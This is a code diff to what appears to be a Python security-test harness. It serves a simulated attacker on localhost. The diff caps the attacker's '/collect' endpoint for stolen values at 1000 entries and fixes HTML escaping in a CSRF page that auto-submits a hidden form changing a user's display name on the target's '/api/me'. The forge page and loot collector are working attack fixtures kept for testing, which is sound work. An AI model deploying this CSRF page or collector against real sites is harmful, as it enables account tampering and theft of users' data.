@@ -106,6 +106,9 @@ CHROMIUM_ARGS = (
 _MAX_NAME = 40
 T = TypeVar("T")
 _MAX_SESSIONS = 1000
+_MAX_LOOT = 1000
+"""Values the attacker's collector keeps; past that it answers 429 (any local process can call
+it, and an unbounded list was memory for the asking)."""
 _TIMEOUT_MS = 15_000
 
 
@@ -417,7 +420,7 @@ class Attacker:
 
 _FORGE_PAGE = """<!doctype html><meta charset="utf-8"><title>Win a prize</title>
 <body><h2>Congratulations! (the attacker's page)</h2>
-<form id="f" method="POST" action=%(action)s>
+<form id="f" method="POST" action="%(action)s">
 <input type="hidden" name="display_name" value="pwned-by-csrf"></form>
 <script>document.getElementById("f").submit();</script></body>"""
 _LOOT_PAGE = """<!doctype html><meta charset="utf-8"><title>Loot</title>
@@ -437,10 +440,12 @@ def serve_attacker(target: str, *, host: str = "127.0.0.1") -> Iterator[Attacker
     @Request.application
     def app(request: Request) -> Response:
         if request.path == "/collect":
+            if len(stolen) >= _MAX_LOOT:
+                return Response(b"", status=429)
             stolen.append(request.args.get("t", "")[:8192])
             return Response(b"", status=204)
         if request.path == "/forge":  # a classic CSRF: a form that posts itself, top level
-            action = html.escape(json.dumps(f"{target}/api/me"), quote=False)
+            action = html.escape(f"{target}/api/me", quote=True)  # an attribute: quotes too
             page = _FORGE_PAGE % {"action": action}
             return Response(page, content_type="text/html; charset=utf-8")
         if request.path == "/loot":
